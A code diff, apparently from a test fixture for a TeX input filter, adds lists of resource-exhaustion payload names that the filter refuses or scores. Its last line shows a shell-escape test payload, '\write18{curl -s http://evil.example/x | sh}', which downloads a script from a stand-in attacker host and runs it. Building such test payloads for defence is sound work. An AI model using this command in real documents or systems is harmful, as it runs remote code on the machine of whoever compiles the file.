@@ -22,6 +22,23 @@ const P = (family: string, name: string, kind: 'cs' | 'text', key: string, after
   after,
 });
 
+/**
+ * Resource-exhaustion payloads whose work one literal decides (a range's end, a sample count, a bound in a
+ * macro, nested ranges): the cost estimate refuses them (422 `cost:`), the signatures' rules only score them.
+ */
+export const COST_PAYLOADS: ReadonlySet<string> = new Set([
+  'foreach-huge',
+  'samples-huge',
+  'macro-range',
+  'nested-foreach',
+]);
+
+/**
+ * A big literal and nothing that multiplies it: a cost input the signatures score, not an attack by itself
+ * (TeX stops at "Dimension too large" in a fraction of a second). Its obfuscations may still be refused.
+ */
+export const SCORED_ONLY: ReadonlySet<string> = new Set(['huge-dimension']);
+
 export const TEX_PAYLOADS: readonly TexPayload[] = [
   // running programs
   P('shell-escape', 'write18-curl', 'cs', 'write', '18{curl -s http://evil.example/x | sh}', '\\immediate'),
